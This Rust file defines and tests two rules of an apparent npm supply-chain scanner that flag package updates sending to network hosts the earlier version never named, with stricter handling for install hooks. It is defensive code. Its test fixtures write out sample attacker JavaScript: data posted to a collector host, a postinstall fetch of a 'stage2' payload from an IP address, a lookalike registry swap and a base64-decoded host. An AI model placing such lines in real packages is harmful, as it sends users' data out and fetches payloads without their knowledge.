//! `new-destination` and `new-install-time-destination`: code that already used the network
//! now sends to a destination the package never named.

use std::collections::BTreeSet;

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::exfiltration_shape::new_destinations;
use super::{DiffCx, MAX_EVIDENCE, NewUse};
use crate::facts::Capability;
use crate::js::patterns::exfil_channel;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-destination",
    group: "analyze",
    severity: Severity::Medium,
    default_level: Level::Warn,
    summary: "Runtime code of a package that already used the network now sends to a host it never named, or to a destination built at run time.",
    doc: r#"A package that always used the network gains no *capability* when one statement in a large bundle starts sending somewhere else, or when a registry URL is swapped inside an expression: `new-network` stays quiet. This rule looks at the destinations themselves. In new code (a new file, or lines added to a changed one) it reports:

- a host that is the destination of a network call (`fetch`, `http(s).request/get`, `net.connect`, HTTP clients, `WebSocket`, `sendBeacon` …) — written there, held in a constant, one branch of a choice (`cond ? 'https://a' : 'https://b'`), the start of a concatenation or template, or built from constants (`atob(…)`, `[…].join('.')`, `String.fromCharCode(…)`) — when **no file of the previous version named that exact host**;
- a receive-anything service (code-hosting APIs such as `api.github.com`, gists, paste sites, chat webhooks, request catchers, tunnels, object storage, serverless hosting) newly named in a file that uses the network;
- a destination whose host is assembled at run time from something that does not fold (`https://${x}.example`, `atob(data)`), beyond the number the file already had.

"Known" is the exact host, not its site: a package that talked to `registry.npmjs.org` has not talked to `registry.npmjs.org.evil.example`, and one that linked `github.com` has not used `api.github.com`.

**Level.** `warn` in runtime code: packages do add endpoints (a new API region, a mirror, a CDN), and the secret-plus-destination case is `exfiltration-shape`, which denies. In **install-time code** the same finding is `new-install-time-destination`, which denies: code that runs on every `npm install`, with the CI's tokens, sending somewhere new has no routine benign reason.

Quiet when the previous version never used the network (that is `new-network`'s case).

**How to silence.** A policy exception on `new-destination` for the exact `name@version`, after checking the host belongs to the project."#,
};

pub(crate) const INSTALL_RULE: RuleDoc = RuleDoc {
    code: "new-install-time-destination",
    group: "analyze",
    severity: Severity::High,
    default_level: Level::Deny,
    summary: "Install-time code of a package that already used the network now sends to a host it never named, or to a destination built at run time.",
    doc: r#"The install-time form of `new-destination` (see there for what counts as a new destination): the new destination sits in a file an install hook runs, or a module it loads.

**Why deny.** Install hooks run on every `npm install`, in CI, with the CI's tokens. Sending somewhere the package never named from there is how a hijacked release reaches its collector while keeping every capability it already had.

**How to silence.** A policy exception on `new-install-time-destination` for the exact `name@version`, after checking the host belongs to the project."#,
};

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let used_network = cx
        .old
        .scripts()
        .any(|(_, js)| js.has(Capability::Network) || js.has(Capability::Dns));
    if !used_network {
        return;
    }
    let old_hosts: BTreeSet<&str> = cx.old_hosts();
    let (mut runtime, mut install): (Vec<NewUse<'_>>, Vec<NewUse<'_>>) = Default::default();
    for (path, f) in &cx.new.files {
        let Some(js) = &f.js else { continue };
        if cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3) {
            continue;
        }
        let install_time = cx.new.is_install_time(path);
        let networked = js.has(Capability::Network) || js.has(Capability::Dns);
        for d in new_destinations(js, cx.baseline(path)) {
            let new = match d.host.as_deref() {
                Some(h) if old_hosts.contains(h) => false,
                Some(h) => d.sent || (networked && exfil_channel(h).is_some()),
                None => true,
            };
            if new {
                let u = NewUse {
                    path,
                    occ: &d.at,
                    install_time,
                };
                if install_time {
                    install.push(u);
                } else {
                    runtime.push(u);
                }
            }
        }
    }
    for (rule, uses, when) in [
        (&INSTALL_RULE, install, " at install time"),
        (&RULE, runtime, ""),
    ] {
        let Some(first) = uses.first() else { continue };
        let mut what: Vec<String> = uses.iter().filter_map(|u| u.occ.detail.clone()).collect();
        what.dedup();
        let more = if what.len() > 3 {
            format!(" and {} more", what.len() - 3)
        } else {
            String::new()
        };
        what.truncate(3);
        let message = format!(
            "{}:{} sends to {}{more}{when}; {} used the network but never named it",
            first.path,
            first.occ.line,
            what.join(", "),
            cx.from(),
        );
        out.push(
            Finding::new(rule, message)
                .with_evidence_all(uses.iter().take(MAX_EVIDENCE).map(NewUse::evidence)),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    /// A large, network-using module (a registry client) and the same module with one
    /// statement added or one expression changed.
    fn client(extra: &str, registry: &str) -> String {
        let mut s = String::from("const https = require('https');\n");
        for i in 0..200 {
            s.push_str(&format!("function helper{i}(x) {{ return x + {i}; }}\n"));
        }
        s.push_str(&format!(
            "const REGISTRY = {registry};\nfunction fetchPackument(name, cb) {{\n  return https.get(REGISTRY + '/' + name, cb);\n}}\n{extra}module.exports = {{ fetchPackument }};\n"
        ));
        s
    }

    const NPM: &str = "'https://registry.npmjs.org'";

    #[test]
    fn one_statement_sending_to_a_new_host_fires() {
        let f = diff_index(
            &client("", NPM),
            &client(
                "https.request({ hostname: 'stats.collector.example', method: 'POST' }).end(JSON.stringify(process.versions));\n",
                NPM,
            ),
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(
            hit.message.contains("stats.collector.example"),
            "{}",
            hit.message
        );
        assert!(find(&f, "new-network").is_none(), "{:?}", codes(&f));
    }

    #[test]
    fn a_registry_swapped_inside_an_expression_fires() {
        let swapped = "process.env.CI ? 'https://registry.npmjs.org.mirror-cdn.example' : 'https://registry.npmjs.org'";
        let f = diff_index(&client("", NPM), &client("", swapped));
        let hit = find(&f, RULE.code).expect("finding");
        assert!(
            hit.message
                .contains("registry.npmjs.org.mirror-cdn.example"),
            "{}",
            hit.message
        );
    }

    #[test]
    fn a_host_built_at_run_time_fires() {
        let built = "const h = Buffer.from(process.argv[2], 'base64').toString();\nhttps.get(`https://${h}/p`);\n";
        let f = diff_index(&client("", NPM), &client(built, NPM));
        assert!(find(&f, RULE.code).is_some(), "{:?}", codes(&f));
    }

    #[test]
    fn install_time_code_sending_somewhere_new_is_denied() {
        let hook = r#""scripts":{"postinstall":"node setup.js"}"#;
        let old_setup = "require('https').get('https://registry.npmjs.org/-/ping');\n";
        let new_setup = "require('https').get('https://registry.npmjs.org/-/ping');\nrequire('https').get('https://203.0.113.7/stage2');\n";
        let f = diff_versions(
            "1.0.0",
            &[
                ("package.json", &manifest("1.0.0", hook)),
                ("setup.js", old_setup),
            ],
            "1.0.1",
            &[
                ("package.json", &manifest("1.0.1", hook)),
                ("setup.js", new_setup),
            ],
        );
        let hit = find(&f, INSTALL_RULE.code).expect("finding");
        assert!(hit.message.contains("203.0.113.7"), "{}", hit.message);
        assert!(find(&f, RULE.code).is_none());
    }

    #[test]
    fn known_hosts_docs_links_and_passed_in_urls_are_quiet() {
        let extra = "function get(url, cb) { return https.get(url, cb); }\nconst HELP = 'see https://docs.newsite.example/errors';\nhttps.get(REGISTRY + '/-/ping');\n";
        let f = diff_index(&client("", NPM), &client(extra, NPM));
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn quiet_when_the_package_never_used_the_network() {
        let f = diff_index(
            "module.exports = 1;\n",
            "require('https').get('https://new.example/x');\n",
        );
        assert!(find(&f, RULE.code).is_none(), "{:?}", codes(&f));
        assert!(find(&f, "new-network").is_some());
    }
}
